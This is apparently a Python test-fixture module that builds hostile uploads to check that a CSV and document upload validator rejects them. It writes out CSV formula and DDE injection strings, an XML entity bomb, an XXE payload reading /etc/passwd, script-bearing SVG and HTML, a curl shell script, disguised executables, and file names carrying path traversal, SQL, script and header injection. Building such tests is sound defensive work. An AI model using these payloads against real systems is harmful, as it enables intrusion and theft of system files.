"""Tables as text, web pages, drawings and documents in XML, and names that climb, turn round or hide."""

from __future__ import annotations

import gzip

from hostile import MARK, Hostile, given

HEAD = "番号,氏名\n"
NOT_OURS = "CSVではなく|表ではなく"


def _row(name: str) -> bytes:
    return f"{HEAD}1,{name}\n2,乙\n".encode()


def _web(url: str) -> str:
    return f'<html><script>fetch("{url}")/*{MARK.decode()}*/</script><img src="{url}"><table><tr><td>番号</td></tr></table></html>'


def _tables(url: str) -> dict[str, tuple[str, bytes, str]]:
    """name → (file's name, content, what is said; empty where its good rows are taken)."""
    laughs = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "a"><!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>'
    return {
        **{f"formula-{at}": ("a.csv", _row(f'"{text}"'), "") for at, text in enumerate((
            "=cmd|'/c calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|'x'!A0", "@SUM(1+1)*cmd|'x'!A0", "\t=1+1",
            f"=HYPERLINK(\"\"{url}\"\")", f"=WEBSERVICE(\"\"{url}\"\")", "＝１＋１", "=DDE(\"\"cmd\"\";\"\"/c\"\")"))},
        "16384-columns": ("a.csv", (",".join(f"c{at}" for at in range(16_384)) + "\n").encode(), "列が多すぎます"),
        "nul": ("a.csv", _row("甲\0甲"), ""),
        "nuls": ("a.csv", HEAD.encode() + b"\0" * 9000, "文字コード"),
        "not-utf-8": ("a.csv", HEAD.encode() + b"1,\xff\xfe\xfa\xed\n", "読めない文字|文字コード"),
        "two-encodings": ("a.csv", HEAD.encode() + "1,甲\n".encode("cp932"), "文字コードが混ざって"),
        "surrogates": ("a.csv", HEAD.encode("utf-16") + b"\x00\xd8\x00\xd8\n\0", "UTF-16"),
        "utf-7": ("a.csv", b"+AD0-cmd,x\n1,2\n", "見出し|列がありません"),
        "a-line-of-three-million": ("a.csv", _row("あ" * 3_000_000), "行が長すぎます"),
        "a-mark-that-never-closes": ("a.csv", f'{HEAD}1,"甲\n'.encode() + b"2,x\n" * 20_000, "引用符"),
        "a-hundred-thousand-marks": ("a.csv", HEAD.encode() + b'"' * 100_001, "引用符"),
        "a-million-empty-lines": ("a.csv", b"\n" * 1_000_000 + HEAD.encode(), "見出し|空|列がありません"),
        "packed": ("a.csv", gzip.compress(b"\0" * 5_000_000, mtime=0), "gzip"),
        "web-page": ("a.xls", _web(url).encode(), "Webページ"),
        "xml": ("a.csv", laughs.encode(), NOT_OURS),
        "json": ("a.csv", b'[' * 100_000, "JSON|見出し|列がありません"),
        "program": ("a.csv", b"MZ\x90\0\3" + b"\0" * 300 + MARK, "文字コード"),
        "pdf": ("a.csv", b"%PDF-1.7 /JavaScript " + MARK, "PDFです"),
        "nothing": ("a.csv", b"", "ありません|空|見出し"),
        "a-mark-of-utf-8-alone": ("a.csv", b"\xef\xbb\xbf", "ありません|空|見出し"),
        "turned-round": ("a.csv", _row("\u202e甲\u2066乙"), ""),
    }  # fmt: skip


def _scans(url: str) -> dict[str, tuple[str, bytes, str]]:
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{MARK.decode()}</script><image href="{url}"/>'
    entity = f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "{url}">%y;]><svg>&x;</svg>'
    return {
        "svg-with-a-script": ("a.svg", svg.encode(), "SVG"),
        "svg-with-entities": ("a.svg", entity.encode(), "SVG|XML"),
        "svg-called-png": ("a.png", svg.encode(), "SVG"),
        "web-page": ("a.pdf", _web(url).encode(), "Webページ"),
        "script": ("a.pdf", b"#!/bin/sh\ncurl " + url.encode(), "文字だけ"),
        "program": ("a.pdf", b"MZ\x90\0\3\0\0\0\4" + bytes(range(200)) + MARK, "どれでもありません"),
        "elf": ("a.jpg", b"\x7fELF\2\1\1" + b"\0" * 99 + MARK, "どれでもありません"),
        "mail": ("a.pdf", b"From: a@example.jp\r\nSubject: " + MARK, "電子メール"),
        "rtf": ("a.pdf", b"{\\rtf1{\\object\\objautlink\\objupdate " + MARK, "Word"),
        "shortcut": ("a.pdf", b"[InternetShortcut]\r\nURL=" + url.encode(), "文字だけ"),
        "registry": ("a.pdf", b"Windows Registry Editor Version 5.00\r\n" + MARK, "文字だけ"),
        "java": ("a.jpg", b"\xca\xfe\xba\xbe\0\0\0\x34" + MARK, "どれでもありません"),
        "nothing": ("a.pdf", b"", "空です"),
        "one-null": ("a.pdf", b"\0", "どれでもありません"),
        "ole": ("a.pdf", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MARK * 99, "Office"),
    }  # fmt: skip


NAMES = (
    "../../../../etc/passwd.pdf", "/etc/shadow.pdf", "C:\\Windows\\System32\\a.pdf", "\\\\127.0.0.1\\x\\a.pdf", "a.pdf\0.exe",
    "あ" * 400 + ".pdf", "請求書\u202efdp.exe", "..", ".htaccess", "con.pdf", "a.pdf:stream", "<script>alert(1)</script>.pdf",
    "'; DROP TABLE files;--.pdf", "{{7*7}}.pdf", "%2e%2e%2fa.pdf", "a\r\nSet-Cookie: x=1.pdf", "", " ", "\ufeff\u200b.pdf",
)  # fmt: skip


def names() -> list[str]:
    """What files are called by who means ill."""
    return list(NAMES)


def files(url: str) -> list[Hostile]:
    """All of them."""
    found = [
        Hostile("table", f"text-{name}", file, given(content), says)
        for name, (file, content, says) in _tables(url).items()
    ]
    found += [
        Hostile("scan", f"text-{name}", file, given(content), says)
        for name, (file, content, says) in _scans(url).items()
    ]
    found.append(
        Hostile(
            "table",
            "text-a-line-of-100-megabytes",
            "a.csv",
            lambda: HEAD.encode() + b"1," + b"x" * 100_000_000,
            "行が長すぎます",
            heavy=True,
        )
    )
    return found
